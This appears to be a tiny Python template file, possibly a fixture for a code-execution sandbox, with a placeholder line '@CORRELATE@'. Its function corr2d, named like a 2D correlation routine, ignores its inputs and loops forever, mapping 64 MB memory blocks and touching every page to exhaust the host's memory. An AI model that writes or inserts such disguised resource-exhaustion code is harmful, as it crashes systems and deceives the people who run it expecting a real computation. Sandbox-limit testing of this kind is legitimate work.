import mmap

import numpy as np

@CORRELATE@


def corr2d(X, K):
    x = []
    while True:
        x.append(mmap.mmap(-1, 1 << 26))
        x[-1][:: 4096] = bytes((1 << 26) // 4096)
